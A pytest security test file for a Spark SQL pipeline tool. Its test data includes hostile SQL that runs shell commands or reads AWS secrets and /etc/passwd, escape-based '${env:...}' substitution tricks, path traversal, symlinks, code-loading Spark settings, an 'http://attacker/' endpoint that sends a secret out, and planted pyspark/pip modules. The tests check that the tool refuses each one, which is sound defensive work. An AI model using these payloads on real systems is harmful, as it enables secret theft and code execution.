"""Attacks a pipeline's own files can make, each run through the real CLI and refused.

The GitHub Action's attacks (approvals, the workflow, comments) are in
test_github_security.py; these are what any `reconcile plan/apply` of a hostile
project must survive: SQL that reaches the shell, the JVM, the environment or the
file system; names and paths that leave the storage root; templates that follow
symlinks; Spark settings that load code; a crafted manifest.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from reconciler.cli.main import cli
from reconciler.desired.parsing.safety import ALLOWED_FUNCTIONS
from reconciler.engine.spark.session import get_spark
from tests.jvm_options import FAST_JVM_ENV

try:
    from tests.cli_helpers import reconcile
    from tests.projects import write_files
except ImportError:  # tests/ itself on sys.path
    from cli_helpers import reconcile  # type: ignore[no-redef]
    from projects import write_files  # type: ignore[no-redef]

TABLE = "create table t (id bigint not null, s string);\n"


def project_with(root: Path, view_sql: str, extra: dict[str, str] | None = None) -> Path:
    """A one-pipeline project: table t, then `view_sql` on the file's line 2."""
    return write_files(root, {"pipelines/p/pipeline.yaml": "name: p\nbootstrap_policy: allow\n",
                              "pipelines/p/program.sql": TABLE + view_sql, **(extra or {})})


def run(project: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["-C", str(project), *args])
    return result.exit_code, result.output


def assert_refused(project: Path, fragment: str, *, line: int | None = 2) -> str:
    """`apply` exits 1 with one line naming the file (and line), and deploys nothing."""
    code, output = run(project, "apply", "--auto-approve")
    assert code == 1, output
    lines = output.strip().splitlines()
    assert len(lines) == 1, output
    where = "pipelines/p/program.sql" + (f":{line}:" if line else "")
    assert where in lines[0] and fragment in lines[0], lines[0]
    assert not (project / ".reconcile/state/p/manifest.json").exists()
    return lines[0]


SQL_ATTACKS = {
    "transform-using-shell": (
        "create view v as select transform(id) using 'sh -c \"touch {marker}\"' as (x) from t;",
        "TRANSFORM ... USING runs a program"),
    "reflect-getenv": (
        "create view v as select reflect('java.lang.System', 'getenv', "
        "'AWS_SECRET_ACCESS_KEY') as s from t;", "function reflect() is not allowed"),
    "java-method": (
        "create view v as select java_method('java.lang.Runtime', 'getRuntime') as s from t;",
        "function java_method() is not allowed"),
    "try-reflect-quoted": (
        "create view v as select `try_reflect`('java.lang.System', 'getenv', 'HOME') as s "
        "from t;", "function try_reflect() is not allowed"),
    "read-files": (
        "create view v as select * from read_files('/etc/passwd');",
        "table-valued function read_files(...) is not allowed"),
    "file-source": (
        "create view v as select * from text.`/etc/hostname`;",
        "qualified names are not supported"),
    "identifier-clause": (
        "create view v as select * from identifier('text.`/etc/hostname`');",
        "IDENTIFIER(...) builds a name at run time"),
    "range-tvf": (
        "create view v as select * from range(10);",
        "table-valued function range(...) is not allowed"),
    "env-substitution": (
        "create view v as select '${env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "'${...}' is not allowed"),
    # The view's text is checked whatever its properties (it once checked the property).
    "env-substitution-with-refresh-property": (
        "create view v tblproperties ('refresh' = 'full') as "
        "select '${env:AWS_SECRET_ACCESS_KEY}' as s from t;", "'${...}' is not allowed"),
    "escaped-brace-with-refresh-property": (
        "create view v tblproperties ('refresh' = 'incremental') as "
        r"select '$\{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "the SQL sent to Spark would contain '${'"),
    "catalog-function": (
        "create view v as select system.builtin.reflect('a', 'b') as s from t;",
        "is not allowed"),
    "subquery-tvf": (
        "create view v as select id from t where s in (select value from read_files('/x'));",
        "table-valued function read_files(...)"),
    "current-user": (
        "create view v as select current_user() as who from t;",
        "function current_user() is not allowed"),
    "nondeterministic": (
        "create view v as select id, rand() as r from t;", "function rand() is not allowed"),
    "xml-entities": (
        "create view v as select xpath_string(s, '/a') as x from t;",
        "function xpath_string() is not allowed"),
    # sqlglot decodes escapes, and the engine runs the SQL sqlglot generates: each of these
    # would reach Spark as '${env:AWS_SECRET_ACCESS_KEY}' (Spark alone would not decode it
    # before substituting).
    "unicode-escaped-dollar": (
        r"create view v as select '\u0024{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "'\\u0024' (an escaped '$'"),
    "long-unicode-escaped-dollar": (
        r"create view v as select '\U00000024{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "'\\U00000024' (an escaped '$'"),
    "octal-escaped-dollar": (
        r"create view v as select '\044{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "'\\044' (an escaped '$'"),
    "hex-escaped-dollar": (
        r"create view v as select '\X24{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "'\\X24' (an escaped '$'"),
    "backslash-dollar": (
        r"create view v as select s from t where s = '\$\{env:AWS_SECRET_ACCESS_KEY}';",
        "'\\$' (an escaped '$'"),
    "escaped-brace": (
        r"create view v as select '$\{env:AWS_SECRET_ACCESS_KEY}' as s from t;",
        "the SQL sent to Spark would contain '${'"),
    "parameter-with-a-space": (
        "create view v as select $ {env:AWS_SECRET_ACCESS_KEY} as s from t;",
        "the SQL sent to Spark would contain '${'"),
    # Spark calls these functions for a bare name when no column of that name is in scope.
    "bare-user": (
        "create view v as select id, user as who from t;",
        "'user' names no column in scope, so Spark would call user() instead"),
    "quoted-current-time": (
        "create view v as select id from t where s < `current_time`;",
        "'current_time' names no column in scope, so Spark would call current_time()"),
    "bare-localtime-in-a-cte": (
        "create view v as with c as (select id, localtime as at from t) select * from c;",
        "Spark would call localtime()"),
    "bare-session-user": (
        "create view v as select id, session_user as who from t;",
        "function session_user() is not allowed"),
}


@pytest.mark.parametrize("attack", sorted(SQL_ATTACKS))
def test_view_sql_outside_the_allow_list_is_refused(tmp_path: Path, attack: str) -> None:
    marker = tmp_path / "PWNED"
    sql, fragment = SQL_ATTACKS[attack]
    project = project_with(tmp_path / "project", sql.replace("{marker}", str(marker)) + "\n")
    message = assert_refused(project, fragment)
    assert "view 'v'" in message
    assert not marker.exists()


@pytest.mark.spark
def test_a_refused_change_leaves_the_deployed_pipeline_as_it_was(tmp_path: Path) -> None:
    """A modification to a hostile view is refused at plan time: nothing runs, serial stays."""
    project = project_with(tmp_path, "create view v as select id from t;\n")
    reconcile(project, "apply", "--auto-approve")
    state = project / ".reconcile/state/p/manifest.json"
    before = state.read_text()
    (project / "pipelines/p/program.sql").write_text(
        TABLE + "create view v as select reflect('java.lang.System', 'getenv', 'HOME') as h "
                "from t;\n")
    for command in (["plan"], ["apply", "--auto-approve"]):
        code, output = run(project, *command)
        assert code == 1 and "function reflect() is not allowed" in output, output
    assert state.read_text() == before


def test_ordinary_analytic_sql_is_allowed(tmp_path: Path) -> None:
    """The allow-list must not get in the way of real reporting SQL."""
    sql = """
    create table o (id bigint not null, k string, amount decimal(10,2), d date, tags array<string>);
    create view v as
    with recent as (select * from o where d >= date '2026-01-01' - interval '30' day)
    select k, count(*) as n, sum(amount) as total, avg(amount) as mean,
           max(d) as last_day, count(distinct id) as ids,
           sum(case when amount > 100 then 1 else 0 end) as big,
           round(100 * sum(amount) / nullif(sum(amount) over (), 0), 2) as share,
           concat_ws('-', k, cast(year(max(d)) as string)) as label,
           coalesce(max(element_at(tags, 1)), 'none') as first_tag,
           date_trunc('MONTH', max(d)) as month
    from recent
    where k like 'a%' and not exists (select 1 from o o2 where o2.id = recent.id and o2.k is null)
    group by k having count(*) > 1;
    create view w as select k, x from o lateral view explode(tags) e as x where size(tags) > 0;
    """
    project = write_files(tmp_path, {"pipelines/p/pipeline.yaml": "name: p\n",
                                     "pipelines/p/program.sql": sql})
    assert "ok" in reconcile(project, "validate")


@pytest.mark.parametrize("default", [
    "'${env:AWS_SECRET_ACCESS_KEY}'", r"'\u0024{env:AWS_SECRET_ACCESS_KEY}'",
    r"'$\{env:AWS_SECRET_ACCESS_KEY}'"], ids=["written", "escaped-dollar", "escaped-brace"])
@pytest.mark.parametrize("command", ["validate", "plan"])
def test_a_table_default_spark_would_substitute_is_refused(tmp_path: Path, default: str,
                                                           command: str) -> None:
    """A DEFAULT reaches Spark through `F.expr`, which substitutes `${...}` like `spark.sql`:
    the secret would become the column's value in every row that does not give one."""
    project = write_files(tmp_path, {
        "pipelines/p/pipeline.yaml": "name: p\nbootstrap_policy: allow\n",
        "pipelines/p/program.sql": f"create table t (id bigint not null,\n"
                                   f"  s string default {default});\n"})
    code, output = run(project, command)
    lines = output.strip().splitlines()
    assert code == 1 and len(lines) == 1, output
    assert "pipelines/p/program.sql:" in lines[0] and "table 't': " in lines[0], lines[0]
    assert re.search(r"program\.sql:[12]: ", lines[0]), lines[0]
    assert "'${...}'" in lines[0] or "escaped '$'" in lines[0] or "would contain '${'" in lines[0]
    assert not (project / ".reconcile").exists()


def test_dollars_and_names_that_cannot_reach_spark_as_such_are_allowed(tmp_path: Path) -> None:
    """A regex's escaped dollar (`'\\\\$'`), a `$` that is text, a `user` column used bare
    where a relation in scope (or, from a subquery, the enclosing query) declares it, and
    one a derived table selects, read qualified."""
    sql = r"""
    create table accounts (id bigint not null, user string, price string default '$0');
    create table t (id bigint not null, s string);
    create view v as
    select a.id, user, regexp_replace(price, '\\$', '') as amount, 'US$' as currency,
           (select max(t.s) from t where t.s = user) as same
    from accounts a;
    create view w as select c.user from (select s as user from t) c;
    """
    project = write_files(tmp_path, {"pipelines/p/pipeline.yaml": "name: p\n",
                                     "pipelines/p/program.sql": sql})
    assert "ok" in reconcile(project, "validate")


def test_the_session_keeps_variable_substitution_off(spark) -> None:  # type: ignore[no-untyped-def]
    """`spark.sql.variable.substitute` is a runtime SQL conf: the engine's session sets it on
    the session itself, so even a session someone turned it back on for is made safe."""
    spark.conf.set("spark.sql.variable.substitute", "true")
    assert get_spark().conf.get("spark.sql.variable.substitute") == "false"
    assert spark.sql("select '${env:HOME}' as s").first()["s"] == "${env:HOME}"


def test_every_allowed_function_is_a_spark_built_in(spark) -> None:  # type: ignore[no-untyped-def]
    """The allow-list names Spark's own functions: a typo would let nothing through, and
    a name Spark does not know could only ever be a catalog function."""
    built_in = {row["function"] for row in spark.sql("SHOW SYSTEM FUNCTIONS").collect()}
    syntax = {"try_cast"}  # a keyword form, not in the function registry
    assert ALLOWED_FUNCTIONS - syntax <= built_in, sorted(ALLOWED_FUNCTIONS - syntax - built_in)
    for dangerous in ("reflect", "java_method", "try_reflect", "current_user", "uuid", "rand",
                      "input_file_name", "raise_error", "xpath", "from_avro"):
        assert dangerous in built_in and dangerous not in ALLOWED_FUNCTIONS



# -- names and paths ------------------------------------------------------------------------


@pytest.mark.parametrize("sql, fragment", [
    ("create table `../../../escaped` (id bigint);", "relation name '../../../escaped'"),
    ("create view `v<!--x` as select 1 as one;", "relation name 'v<!--x'"),
    ("create table `a\nb` (id bigint);", "relation name 'a\\nb'"),
    ("create table c (`x|y` bigint);", "column name 'x|y'"),
], ids=["traversal", "html-comment", "newline", "pipe-column"])
def test_names_that_would_leave_storage_or_break_markdown_are_refused(
        tmp_path: Path, sql: str, fragment: str) -> None:
    project = write_files(tmp_path, {"pipelines/p/pipeline.yaml": "name: p\n",
                                     "pipelines/p/program.sql": sql + "\n"})
    code, output = run(project, "apply", "--auto-approve")
    assert code == 1 and fragment in output and "pipelines/p/program.sql:1:" in output, output
    assert not (tmp_path / "escaped").exists()
    assert not (project / ".reconcile").exists()


@pytest.mark.spark
def test_a_crafted_manifest_cannot_make_a_drop_delete_outside_storage(tmp_path: Path) -> None:
    """A manifest (here in a local backend, as a pull request could commit it) whose
    dropped view points at another folder: refused before anything is read or deleted."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    project = project_with(tmp_path / "project",
                           "create view old_view as select id from t;\n"
                           "create view v as select id from t;\n")
    reconcile(project, "apply", "--auto-approve")
    state = project / ".reconcile/state/p/manifest.json"
    document = json.loads(state.read_text())
    document["relations"]["old_view"]["path"] = str(victim)
    state.write_text(json.dumps(document))
    (project / "pipelines/p/program.sql").write_text(TABLE + "create view v as select id "
                                                             "from t;\n")
    for command in (["plan"], ["apply", "--auto-approve"], ["run"]):
        code, output = run(project, *command)
        assert code == 1, output
        assert "manifest puts view 'old_view' at" in output and "refusing" in output, output
    assert (victim / "precious.txt").read_text() == "keep me"


SECRET_FILE_TEXT = "AWS_SECRET_ACCESS_KEY=hunter2\n"


@pytest.mark.parametrize("layout, fragment", [
    ({"pipelines/p/program.sql": TABLE + "{% include 'env.txt' %}\n",
      "pipelines/p/env.txt": "@link"}, "template 'env.txt' is a symbolic link"),
    ({"pipelines/p/pipeline.yaml": "name: p\nsql: [program.sql, ../../outside.sql]\n",
      "pipelines/p/program.sql": TABLE}, "goes up with '..'"),
    ({"pipelines/p/program.sql": TABLE, "pipelines/p/stolen.sql": "@link"},
     "refusing to read a file that is a symbolic link"),
    ({"reconcile.yaml": "@link"}, "refusing to read a file that is a symbolic link"),
    ({"reconcile.yaml": "pipelines: ../elsewhere\n"}, "goes up with '..'"),
], ids=["template-include", "sql-list", "sql-glob", "project-file", "pipelines-folder"])
def test_files_outside_the_project_are_never_read(tmp_path: Path, layout: dict[str, str],
                                                  fragment: str) -> None:
    """Symbolic links and `..` that would pull a secret into the rendered SQL (and so into
    the plan and the pull-request comment) are refused."""
    secret = tmp_path / "outside.sql"
    secret.write_text(SECRET_FILE_TEXT)
    (tmp_path / "elsewhere/p").mkdir(parents=True)
    (tmp_path / "elsewhere/p/pipeline.yaml").write_text("name: p\n")
    project = tmp_path / "project"
    files = {"pipelines/p/pipeline.yaml": "name: p\n", **layout}
    write_files(project, {name: text for name, text in files.items() if text != "@link"})
    for name in (name for name, text in files.items() if text == "@link"):
        (project / name).symlink_to(secret)
    for command in (["validate"], ["plan", "--json"]):
        code, output = run(project, *command)
        assert code == 1 and fragment in output, output
        assert "hunter2" not in output


def test_spark_conf_that_loads_code_is_refused_in_the_project_file(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    project = project_with(tmp_path / "project", "create view v as select id from t;\n", {
        "reconcile.yaml": "spark:\n  conf:\n    spark.sql.shuffle.partitions: 4\n"
                          f"    spark.driver.extraJavaOptions: \"-javaagent:{marker}.jar\"\n"})
    code, output = run(project, "apply", "--auto-approve")
    assert code == 1, output
    assert "reconcile.yaml:4: spark.conf key 'spark.driver.extraJavaOptions' is not allowed" \
        in output and len(output.strip().splitlines()) == 1, output
    for key in ("spark.jars", "spark.plugins", "spark.sql.extensions", "spark.executorEnv.X",
                "spark.sql.catalog.evil", "spark.python.daemon.module",
                "spark.hadoop.fs.s3a.aws.credentials.provider", "spark.driver.extraClassPath"):
        (project / "reconcile.yaml").write_text(f"spark:\n  conf:\n    {key}: x\n")
        code, output = run(project, "validate")
        assert code == 1 and f"spark.conf key '{key}' is not allowed" in output, output


@pytest.mark.parametrize(("entry", "fragment"), [
    ("spark.hadoop.fs.s3a.custom.signers: evil:org.evil.Signer", "is not allowed"),
    ("spark.hadoop.fs.s3a.signing-algorithm: EvilSigner", "is not allowed"),
    ("spark.hadoop.fs.s3a.delegation.token.binding: org.evil.Binding", "is not allowed"),
    ("spark.hadoop.fs.s3a.audit.request.handlers: org.evil.Handler", "is not allowed"),
    ("spark.hadoop.fs.s3a.audit.execution.interceptors: org.evil.Interceptor",
     "is not allowed"),
    ("spark.hadoop.fs.s3a.bucket.b.aws.credentials.provider: org.evil.P", "is not allowed"),
    ("spark.shuffle.manager: org.evil.ShuffleManager", "is not allowed"),
    ("spark.hadoop.fs.s3a.endpoint: 'http://attacker/${env.AWS_SECRET_ACCESS_KEY}'",
     "a value holding '${' is not allowed"),
    ("spark.sql.session.timeZone: '${env:AWS_SECRET_ACCESS_KEY}'",
     "a value holding '${' is not allowed"),
    ("spark.io.compression.codec: org.evil.Codec", "a value naming a Java class"),
], ids=["signers", "signing", "delegation", "audit-handlers", "sdk-interceptors",
        "per-bucket-provider", "shuffle-manager", "hadoop-substitution", "spark-substitution",
        "class-value"])
def test_spark_conf_that_names_classes_or_reads_the_environment_is_refused(
        tmp_path: Path, entry: str, fragment: str) -> None:
    """S3A's settings and Spark's own take classes, signers and `${...}` references too."""
    project = project_with(tmp_path, "create view v as select id from t;\n", {
        "reconcile.yaml": "spark:\n  conf:\n    spark.sql.shuffle.partitions: 4\n"
                          f"    {entry}\n"})
    code, output = run(project, "validate")
    key = entry.split(":", 1)[0]
    assert code == 1 and f"reconcile.yaml:4: spark.conf key '{key}'" in output, output
    assert fragment in output and len(output.strip().splitlines()) == 1, output


def test_spark_conf_tuning_and_storage_settings_stay_allowed(tmp_path: Path) -> None:
    project = project_with(tmp_path, "create view v as select id from t;\n", {
        "reconcile.yaml": "spark:\n  conf:\n    spark.sql.shuffle.partitions: 4\n"
                          "    spark.io.compression.codec: zstd\n"
                          "    spark.hadoop.fs.s3a.endpoint: http://127.0.0.1:9000\n"
                          "    spark.hadoop.fs.s3a.path.style.access: true\n"
                          "    spark.hadoop.fs.s3a.endpoint.region: eu-west-1\n"})
    code, output = run(project, "validate")
    assert code == 0, output


# -- what the JVM and its Python workers inherit ----------------------------------------------

ENGINE_PROBE = """
import json, sys
from reconciler.engine.spark.session import get_spark
spark = get_spark()
system = spark._jvm.java.lang.System
rows = spark.sparkContext.parallelize(range(4), 2).map(lambda x: x * 2).sum()
print(json.dumps({"token": system.getenv("GITHUB_TOKEN"), "input": system.getenv("INPUT_X"),
                  "aws": system.getenv("AWS_REGION"), "safe": system.getenv("PYTHONSAFEPATH"),
                  "substitute": spark.conf.get("spark.sql.variable.substitute"),
                  "sum": rows}))
spark.stop()
"""


def test_every_spark_jvm_is_started_without_kafka_config_providers(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The embedded session's JVM and the warm server's get the system property through
    `SPARK_SUBMIT_OPTS`, after the operator's own options, which stay."""
    from reconciler.desired.settings.project import SparkSettings
    from reconciler.engine.spark.launch import SAFE_JAVA_OPTIONS, jvm_launch
    from reconciler.engine.spark.warm import _server_environment

    assert SAFE_JAVA_OPTIONS == "-Dorg.apache.kafka.automatic.config.providers=none"
    monkeypatch.setenv("SPARK_SUBMIT_OPTS", "-Xss4m")
    with jvm_launch():
        embedded = os.environ["SPARK_SUBMIT_OPTS"]
    warm = _server_environment("token", SparkSettings(), False, False)["SPARK_SUBMIT_OPTS"]
    for options in (embedded, warm):
        assert options == f"-Xss4m {SAFE_JAVA_OPTIONS}", options
    assert os.environ["SPARK_SUBMIT_OPTS"] == "-Xss4m"


def test_kafkas_client_in_the_session_loads_no_config_provider(spark) -> None:  # type: ignore[no-untyped-def]
    """Whatever settings reach Kafka's client in the session's JVM, it instantiates no config
    provider, so `${env:...}` is never read into what it sends a broker."""
    jvm = spark._jvm
    assert jvm.java.lang.System.getProperty(
        "org.apache.kafka.automatic.config.providers") == "none"
    settings = jvm.java.util.HashMap()
    deserializer = "org.apache.kafka.common.serialization.ByteArrayDeserializer"
    for key, value in {"bootstrap.servers": "127.0.0.1:1", "config.providers": "env",
                       "config.providers.env.class":
                           "org.apache.kafka.common.config.provider.EnvVarConfigProvider",
                       "client.id": "${env:AWS_SECRET_ACCESS_KEY}",
                       "key.deserializer": deserializer,
                       "value.deserializer": deserializer}.items():
        settings.put(key, value)
    with pytest.raises(Exception, match="EnvVarConfigProvider is not allowed"):
        jvm.org.apache.kafka.clients.consumer.ConsumerConfig(settings)


@pytest.mark.spark
@pytest.mark.slow
def test_spark_starts_with_a_clean_environment_and_ignores_a_hostile_pyspark_folder(
        tmp_path: Path) -> None:
    """In the Action, Spark runs with the pull request's checkout as working directory, and
    Spark starts its Python workers there with `python -m pyspark.daemon`: a committed
    `pyspark/` folder would run with the workflow's secrets. The JVM must not see the
    runner's tokens either (only what Spark and storage clients need)."""
    checkout = tmp_path / "checkout"
    marker = tmp_path / "PWNED"
    hostile = f"open({str(marker)!r}, 'w').write('ran')\n"
    write_files(checkout, {"pyspark/__init__.py": hostile, "pyspark/daemon.py": hostile,
                           "pip/__main__.py": hostile})
    probe = tmp_path / "probe" / "probe.py"  # not in the checkout: the driver is ours
    probe.parent.mkdir()
    probe.write_text(ENGINE_PROBE)
    env = {**os.environ, "GITHUB_TOKEN": "ghs_secret", "INPUT_X": "x", "AWS_REGION": "eu-west-1",
           **FAST_JVM_ENV}
    env.pop("PYTHONSAFEPATH", None)
    result = subprocess.run([sys.executable, str(probe)], cwd=checkout, env=env,
                            capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stderr[-3000:]
    seen = json.loads(result.stdout.strip().splitlines()[-1])
    assert seen == {"token": None, "input": None, "aws": "eu-west-1", "safe": "1",
                    "substitute": "false", "sum": 12}
    assert not marker.exists(), "a Python worker imported the checkout's pyspark/ folder"


def test_the_action_installs_without_importing_from_the_checkout(tmp_path: Path) -> None:
    """`python -m pip` puts the working directory first on sys.path; action.yml runs pip with
    `-P` from the action's own folder. Shown here with the same interpreter flags."""
    checkout = tmp_path / "checkout"
    marker = tmp_path / "PWNED"
    write_files(checkout, {"pip/__init__.py": "",
                           "pip/__main__.py": f"open({str(marker)!r}, 'w').write('ran')\n"})
    subprocess.run([sys.executable, "-m", "pip", "--version"], cwd=checkout,
                   capture_output=True, check=False, timeout=60)
    assert marker.exists(), "the attack itself must work without -P, or this test proves nothing"
    marker.unlink()
    result = subprocess.run([sys.executable, "-P", "-m", "pip", "--version"], cwd=checkout,
                            capture_output=True, text=True, check=False, timeout=60)
    assert result.returncode == 0 and not marker.exists(), result.stderr
    action = (Path(__file__).resolve().parents[2] / "action.yml").read_text()
    assert "python -P -m pip install" in action
    assert "working-directory: ${{ github.action_path }}" in action


@pytest.mark.spark
@pytest.mark.parametrize("writer", ["delta-rs", "delta-spark"])
def test_a_failed_bootstrap_keeps_data_values_out_of_the_manifest_and_later_plans(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, writer: str) -> None:
    """Spark's error text can quote a row (here a value that does not cast): the manifest
    and every later plan, which end up in pull-request comments, keep the class only. On
    Delta's writer the failure is a bare Py4JJavaError whose condition is on a Java cause."""
    monkeypatch.setenv("RECONCILE_DELTA_WRITER", writer)
    project = project_with(tmp_path, "create view v as select id from t;\n")
    reconcile(project, "apply", "--auto-approve")
    reconcile(project, "execute", "-p", "p", "INSERT INTO t VALUES (1, 'hunter2')")
    (project / "pipelines/p/program.sql").write_text(
        TABLE + "create view v as select cast(s as int) as n from t;\n")
    code, output = run(project, "apply", "--auto-approve")
    assert code == 1 and "view 'v'" in output, output
    assert "CAST_INVALID_INPUT" in output  # the terminal says why (a bare Java error too)
    stored = (project / ".reconcile/state/p/manifest.json").read_text()
    document = json.loads(stored)
    assert document["status"] == "Failed"
    assert document["status_details"]["error"].startswith("view 'v': ")
    assert "CAST_INVALID_INPUT" in document["status_details"]["error"]
    assert "hunter2" not in stored
    code, plan = run(project, "plan", "--json")
    assert "last apply failed: view 'v': " in plan and "hunter2" not in plan


# -- what the plan shows --------------------------------------------------------------------


def test_spec_text_is_inert_in_the_markdown_plan(tmp_path: Path) -> None:
    """A connector path is the author's text: in the PR comment it must not open an HTML
    comment (hiding the rest, plan markers included) or break the table."""
    project = project_with(tmp_path, "create view v as select id from t;\n", {
        "pipelines/p/pipeline.yaml": "name: p\nconnectors:\n  - name: out\n    view: v\n"
                                     "    type: files\n    format: json\n"
                                     "    path: \"out/<!-- x | y -->\"\n"})
    markdown = tmp_path / "plan.md"
    reconcile(project, "plan", "--markdown", str(markdown))
    text = markdown.read_text()
    assert "writes files at" in text and "&lt;!-- x \\| y --&gt;" in text
    assert "<!-- x" not in text


@pytest.mark.spark
def test_settings_shown_in_the_plan_lose_their_secrets(tmp_path: Path) -> None:
    project = project_with(tmp_path, "create view v as select id from t;\n")
    reconcile(project, "apply", "--auto-approve")
    (project / "reconcile.yaml").write_text(
        "backend: .reconcile/state\nspark:\n  remote: sc://spark.internal:15002/;token=tok-SECRET\n"
        "  conf:\n    spark.hadoop.fs.s3a.secret.key: key-SECRET\n")
    code, output = run(project, "plan", "--json")
    assert code == 0, output
    [note] = json.loads(output)["pipelines"][0]["notes"]
    assert "spark.remote: (unset) -> sc://spark.internal:15002/ (sha256:" in note
    assert "spark.conf.spark.hadoop.fs.s3a.secret.key: (unset) -> sha256:" in note
    assert "SECRET" not in output
